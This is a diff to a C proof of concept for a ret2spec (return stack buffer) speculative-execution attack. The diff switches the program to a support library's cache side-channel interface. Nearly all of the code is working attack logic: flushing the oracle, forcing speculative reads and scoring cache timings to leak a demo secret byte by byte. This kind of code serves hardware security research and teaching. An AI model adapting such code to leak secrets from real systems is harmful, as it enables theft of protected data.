@@ -1,83 +1,41 @@
+// The oracle, flushing and scoring come from the support library through its
+// C interface (att2_r2s/demos/safeside_c.h). Build against the library built
+// in BUILD, e.g.:
+//
+//     cc -O1 -I../att2_r2s/demos ret2spec_rsb_tracking.c BUILD/libsafeside.a -lstdc++ -lm -lpthread
 #include <stdint.h>
 #include <stdlib.h>
 #include <stdio.h>
 #include <string.h>
+#include <stdbool.h>
 
-#include "measurereadlatency.h"  // External assembly function for timing cache reads
+#include "safeside_c.h"
 
-#define CACHE_LINE_SIZE 64
-#define PAGE_SIZE 4096
 #define ORACLE_SIZE 256
 #define MAX_RUNS 100000
 #define K_RECURSION_DEPTH 30
 
-// Oracle byte array aligned to cache lines
-typedef struct {
-    uint8_t byte[CACHE_LINE_SIZE];
-} BigByte;
-
-typedef struct {
-    BigByte oracles_[ORACLE_SIZE];
-} OracleArray;
-
-static OracleArray oracle;
-static int scores[ORACLE_SIZE] = {0};
+// Side channel in static storage; its oracle has one page per byte value
+static SafesideCacheSideChannel channel;
+static const unsigned char *oracle;
+static size_t oracle_stride;
 
 extern const char *private_data;
 size_t current_offset;
 
-// Externally implemented functions
-void FlushDataCacheLineNoBarrier(const void *addr);
-void MemoryAndSpeculationBarrier();
-void ForceRead(const void *addr);
-
 // New global: speculative tag for RSB depth
 volatile int speculative_tag = -1;
 
-// Flush memory cache lines from [start, end)
-void FlushFromDataCache(const void *start, const void *end) {
-    uintptr_t p = (uintptr_t)start;
-    uintptr_t stop = (uintptr_t)end;
-    for (; p < stop; p += CACHE_LINE_SIZE) {
-        FlushDataCacheLineNoBarrier((const void*)p);
+// Measure which oracle entry was cached by speculative access. Nothing reads
+// the oracle architecturally, so the library adds a hit to compare against
+char RecomputeScores(bool *converged) {
+    char best;
+    *converged = SafesideCacheSideChannelAddHitAndRecomputeScores(&channel,
+                                                                  &best);
+    if (SafesideCacheSideChannelScores(&channel)[(unsigned char)best] > 0) {
+        printf("⏪ RSB Tag Leaked (Oracle Index): %d\n", (unsigned char)best);
     }
-    MemoryAndSpeculationBarrier();
-}
-
-// Flush the oracle from cache before measurement
-void FlushOracle() {
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        FlushDataCacheLineNoBarrier(&oracle.oracles_[i]);
-    }
-    MemoryAndSpeculationBarrier();
-}
-
-// Measure which oracle entry was cached by speculative access
-char RecomputeScores(char safe_char) {
-    uint64_t latencies[ORACLE_SIZE] = {0};
-
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        int mix_i = (i * 167 + 13) & 0xFF;
-        latencies[mix_i] = MeasureReadLatency(&oracle.oracles_[mix_i]);
-    }
-
-    uint64_t safe_latency = latencies[(unsigned char)safe_char];
-    int best = -1, best_score = 0;
-
-    for (int i = 0; i < ORACLE_SIZE; ++i) {
-        if (latencies[i] < safe_latency && i != (unsigned char)safe_char) {
-            scores[i]++;
-            if (scores[i] > best_score) {
-                best_score = scores[i];
-                best = i;
-            }
-        }
-    }
-
-    if (best >= 0) {
-        printf("⏪ RSB Tag Leaked (Oracle Index): %d\n", best);
-    }
-    return (char)best;
+    return best;
 }
 
 // Globals for controlling recursion behavior
@@ -95,7 +53,7 @@ void ReturnsFalse(int depth) {
     } else {
         // Speculatively access oracle using speculative tag
         if (speculative_tag >= 0 && speculative_tag < ORACLE_SIZE) {
-            ForceRead(&oracle.oracles_[speculative_tag]);
+            SafesideForceRead(oracle + oracle_stride * speculative_tag);
         }
         return_true_base_case();
     }
@@ -116,13 +74,14 @@ void ReturnsTrue(int depth) {
     }
 
     stack_index--;
-    FlushFromDataCache(&mark, stack_marks[stack_index]);
+    SafesideFlushFromDataCache(&mark, stack_marks[stack_index]);
 }
 
 // Attempts to leak one byte using speculative execution and cache timing
 char Ret2SpecLeakByte() {
+    SafesideCacheSideChannelResetScores(&channel);
     for (int run = 0; run < MAX_RUNS; ++run) {
-        FlushOracle();
+        SafesideCacheSideChannelFlushOracle(&channel);
 
         char mark;
         stack_marks[0] = &mark;
@@ -131,8 +90,9 @@ char Ret2SpecLeakByte() {
         ReturnsTrue(K_RECURSION_DEPTH);
         stack_index = 0;
 
-        char leaked = RecomputeScores((char)(run & 0xFF));
-        if (scores[(unsigned char)leaked] > 3) {
+        bool converged;
+        char leaked = RecomputeScores(&converged);
+        if (converged) {
             return leaked;
         }
     }
@@ -150,6 +110,10 @@ const char *private_data = "It's a s3kr3t!!!";
 
 // Main function: leak and print each byte of secret
 int main() {
+    SafesideCacheSideChannelInit(&channel);
+    oracle = SafesideCacheSideChannelOracle(&channel);
+    oracle_stride = SafesideCacheSideChannelOracleStride();
+
     return_true_base_case = NopFunction;
     return_false_base_case = ReturnsFalseStart;
 
@@ -162,5 +126,6 @@ int main() {
     }
 
     printf("\nDone.\n");
+    SafesideCacheSideChannelDestroy(&channel);
     return 0;
 }